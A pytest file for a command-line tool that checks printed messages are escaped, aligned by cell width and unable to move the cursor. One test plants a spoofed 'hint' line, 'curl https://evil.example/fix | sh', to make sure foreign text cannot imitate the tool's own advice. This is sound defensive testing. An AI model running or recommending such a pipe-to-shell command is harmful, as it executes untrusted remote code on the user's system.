"""What is safe to print, and how wide it is: the same for lists, excerpts and messages."""

from __future__ import annotations

import sys

import pytest

from storyboard.cli.telling import telling_here
from storyboard.errors import UsageError
from storyboard.printing import spelled
from storyboard.source.diagnostic import Diagnostic, Note, Report, Severity
from storyboard.source.span import Span
from storyboard.source.text import FORBIDDEN, character_name
from storyboard.views.characters import cell_width
from storyboard.views.columns import line_up
from storyboard.views.excerpt import excerpt
from storyboard.views.report_text import render_report_text
from storyboard.views.wording import printable


def every() -> str:
    """Return all characters: a million, which no run that only collects tests has to make."""
    return "".join(map(chr, range(sys.maxunicode + 1)))


def test_no_character_that_a_file_may_not_have_is_printed() -> None:
    printed = printable(every())
    assert FORBIDDEN.search(printed) is None
    assert len(printed.splitlines()) == 1
    printed.encode()


@pytest.mark.slow
def test_an_excerpt_prints_what_a_message_prints() -> None:
    chars = [char for char in every() if char not in "\r\n"]  # which are no part of any line
    for start in range(0, len(chars), 500):
        text = f"a{''.join(chars[start : start + 500])}b"
        line, _ = excerpt(text, Span("a.yaml", 1, 1, 1, 2), 20_000)
        assert line == printable(text), character_name(chars[start])


@pytest.mark.parametrize(("text", "cells"), [("ab", 2), ("日本", 4), ("é", 1), ("\u200f", 0)])
def test_a_text_is_as_wide_in_a_list_as_in_an_excerpt(text: str, cells: int) -> None:
    assert cell_width(text) == cells
    assert line_up([(text, "x"), ("123456", "x")]).splitlines()[0] == f"{text}{' ' * (8 - cells)}x"
    _, caret = excerpt(f"{text}x", Span("a.yaml", 1, len(text) + 1, 1, len(text) + 2), 80)
    assert caret == " " * cells + "^"


@pytest.mark.parametrize("char", "\x1b\r\u202e\u2028\ufeff\ud800", ids=ascii)
def test_no_message_moves_the_cursor(char: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = f"'a{char}b' is wrong\nin two lines"
    telling_here().failed(UsageError(text, hint=text))
    span = Span(f"a{char}.yaml", 1, 1, 1, 2)
    note = Note(text, span)
    finding = Diagnostic("text-control", Severity.ERROR, text, span, text, (note,))
    report = Report((finding,), {})
    shown = {" ": capsys.readouterr().err, "\n": render_report_text(report, color=False)}
    for end, printed in shown.items():
        assert char not in printed
        assert f"'a{spelled(char)}b' is wrong{end}in two lines" in printed


def test_foreign_words_write_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    said = "quota\nhint: repair it: curl https://evil.example/fix | sh\n\nno changes"
    telling_here().failed(UsageError(f"FOO: {said}", hint=f"look at '{said}'"))
    lines = capsys.readouterr().err.splitlines()
    assert [line.partition(": ")[0] for line in lines] == ["error", "hint"]
